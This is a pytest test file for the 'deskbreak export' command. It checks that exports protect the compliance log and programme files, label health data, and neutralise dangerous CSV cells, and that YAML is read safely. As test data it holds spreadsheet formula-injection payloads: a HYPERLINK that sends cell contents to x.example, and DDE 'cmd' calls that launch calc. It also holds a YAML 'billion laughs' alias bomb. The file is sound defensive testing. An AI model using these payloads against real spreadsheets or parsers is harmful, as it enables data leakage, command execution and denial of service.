"""`deskbreak export` never destroys the log or a programme, asks --force for any other existing
file, writes CSV a spreadsheet cannot run, says in its first line that it holds health data,
and reads the programme for the HTML header through the guarded YAML reader."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import datetime
from pathlib import Path

import pytest
from conftest import run_cli

from deskbreak.core.events import Outcome, ProgrammeLoaded, PromptOutcome, PromptShown
from deskbreak.paths import user_paths
from deskbreak.reporting.export import HEALTH_DATA_NOTICE
from deskbreak.store import open_store

PERIOD = ("--from", "2026-03-02", "--to", "2026-03-03")
HOSTILE = ("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tTAB")


def at(hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 3, 2, hour, minute).astimezone()


def record(programme_path: Path) -> Path:
    store = open_store()
    events = [ProgrammeLoaded(at(9), "Title", "abc", str(programme_path))]
    for n, name in enumerate(HOSTILE, start=1):
        events.append(PromptShown(at(10, n), n, n, name, "micro", (name,), (), 1800,
                                  at(10, n), 0, name, "abc"))
        events.append(PromptOutcome(at(10, n + 30), n, n, name, "micro", Outcome.DONE, (name,)))
    assert store.append_many(events)
    store.close()
    return user_paths().database


def export(*args: str) -> tuple[int, str]:
    result = run_cli("export", *args, *PERIOD)
    assert "Traceback" not in result.stderr, result.stderr
    return result.returncode, result.stderr


def test_export_never_writes_over_the_compliance_log(tmp_path: Path) -> None:
    database = record(tmp_path / "p.yaml")
    before = database.read_bytes()
    for extra in ((), ("--force",)):
        code, stderr = export("--format", "html", "--out", str(database), *extra)
        assert code == 1 and "it is a compliance log" in stderr
    other_log = tmp_path / "copy.sqlite3"
    other_log.write_bytes(before)
    code, stderr = export("--format", "csv", "--out", str(other_log), "--force")
    assert code == 1 and "it is a compliance log" in stderr
    assert database.read_bytes() == before and other_log.read_bytes() == before


def test_export_never_writes_over_a_programme(tmp_path: Path) -> None:
    loaded = tmp_path / "loaded-programme.txt"  # named in the log as the programme in force
    loaded.write_text("title: mine\n")
    record(loaded)
    installed = user_paths().installed_programme
    installed.parent.mkdir(parents=True, exist_ok=True)
    installed.write_text("title: installed\n")
    for target in (loaded, installed):
        code, stderr = export("--format", "json", "--out", str(target), "--force")
        assert code == 1 and "it is a programme file" in stderr
    assert loaded.read_text() == "title: mine\n"
    assert installed.read_text() == "title: installed\n"


def test_an_existing_file_needs_force(tmp_path: Path) -> None:
    record(tmp_path / "p.yaml")
    out = tmp_path / "report.json"
    out.write_text("keep me")
    code, stderr = export("--format", "json", "--out", str(out))
    assert code == 1 and "already exists; add --force" in stderr
    assert out.read_text() == "keep me"
    code, _ = export("--format", "json", "--out", str(out), "--force")
    assert code == 0 and json.loads(out.read_text())["notice"] == HEALTH_DATA_NOTICE


@pytest.mark.parametrize("table", ["events", "exercises", "daily"])
def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path,
                                                               table: str) -> None:
    record(tmp_path / "p.yaml")
    out = tmp_path / f"{table}.csv"
    assert export("--format", "csv", "--table", table, "--out", str(out))[0] == 0
    text = out.read_text()
    first, _, rest = text.partition("\n")
    assert HEALTH_DATA_NOTICE in first
    for row in csv.reader(io.StringIO(rest)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (table, cell)
    if table != "daily":
        assert "'=HYPERLINK(" in text


@pytest.mark.parametrize("fmt", ["csv", "json", "html"])
def test_every_export_says_in_its_first_line_that_it_holds_health_data(tmp_path: Path,
                                                                       fmt: str) -> None:
    record(tmp_path / "p.yaml")
    out = tmp_path / f"export.{fmt}"
    assert export("--format", fmt, "--out", str(out))[0] == 0
    first_line = out.read_text().splitlines()[0]
    assert "contains personal health data" in first_line
    if fmt == "json":
        json.loads(out.read_text())  # still valid JSON


ALIAS_BOMB = """title: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: [*h,*h,*h,*h,*h,*h,*h,*h,*h]
patient: *i
"""


def test_the_html_export_is_not_slowed_by_an_alias_bomb_in_the_last_programme(
        tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(ALIAS_BOMB)
    record(bomb)
    out = tmp_path / "report.html"
    started = time.monotonic()
    code, stderr = export("--format", "html", "--out", str(out))
    assert code == 0, stderr
    assert time.monotonic() - started < 10
    assert "lol" not in out.read_text()


def test_every_yaml_read_in_the_product_goes_through_the_guarded_reader() -> None:
    """Only core/programme_file.py calls PyYAML's readers (compose_safely: size limit, no
    aliases or tags, bounded nesting, then the C safe loader); everything else goes through it."""
    import re as _re

    from conftest import REPO

    reader = _re.compile(r"yaml\.(safe_load|load|full_load|unsafe_load|compose|compose_all|"
                         r"parse|load_all|safe_load_all)\b")
    offenders = [
        f"{path.relative_to(REPO)}:{number}"
        for path in (REPO / "deskbreak").rglob("*.py")
        if path.name != "programme_file.py"
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if reader.search(line)
    ]
    assert offenders == []
